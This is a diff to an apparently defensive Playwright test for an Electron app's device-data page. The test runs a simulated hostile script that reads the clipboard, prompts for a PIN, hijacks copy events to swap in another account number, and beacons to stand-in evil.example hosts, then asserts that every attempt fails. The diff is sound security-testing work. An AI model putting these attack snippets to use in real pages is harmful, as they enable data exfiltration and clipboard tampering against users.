@@ -1,6 +1,6 @@
 // Attacker: the vendor's script, or whoever replaced it. Way: whatever a page can try: the bridge, Node, other hosts, WebRTC,
 // frames, workers, storage, windows, a second message, time and memory without end. Impact: a PIN or a token leaves, others are
-// told who is here, a change hangs. docs/threat-model.md#device-data-page
+// told who is here, a change hangs, what was copied becomes something else, the program speaks. docs/threat-model.md#device-data-page
 import { mkdir, writeFile } from "node:fs/promises";
 import { type AddressInfo, createServer } from "node:net";
 import path from "node:path";
@@ -117,6 +117,18 @@ const attempts = `(async () => {
   await attempt("clipboard", () => navigator.clipboard.readText());
   await attempt("file picker", () => window.showOpenFilePicker());
   await attempt("dialog", () => prompt("Your PIN, please"));
+  await attempt("number at the icon", () => navigator.setAppBadge(7).then(() => "set"));
+  await attempt("sound", () => new Promise((resolve) => {
+    const context = new AudioContext();
+    context.onstatechange = () => resolve(context.state);
+  }));
+  await attempt("copy", () => {
+    addEventListener("copy", (event) => {
+      event.clipboardData.setData("text/plain", "another account's number");
+      event.preventDefault();
+    });
+    return document.execCommand("copy");
+  });
   // Nothing of this answers; who listens sees whether it arrives.
   const evil = (name) => "https://" + name + ".evil.example/";
   const image = new Image();
@@ -148,11 +160,15 @@ test("a hostile script reaches the partner's domains and nothing else, and has o
 }) => {
   const names = await listenForNames();
   const { app } = await launch({ args: names.args });
-  const before = await app.evaluate(({ webContents }) => webContents.getAllWebContents().length);
+  const before = await app.evaluate(({ webContents, clipboard }) => {
+    clipboard.writeText("copied elsewhere");
+    return webContents.getAllWebContents().length;
+  });
 
   const hostile = await collect(app, scripts(folder), attempts);
   expect.soft(hostile).toMatchObject({ text: `gained:;${consentId}`, pages: before, isAlive: false });
   expect.soft([...names.seen]).toEqual(["probe.vendor.example"]);
+  expect.soft(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe("copied elsewhere");
   names.close();
 
   const text = `Web;${consentId};${"a".repeat(16)};${"b/+=".repeat(700)}`;
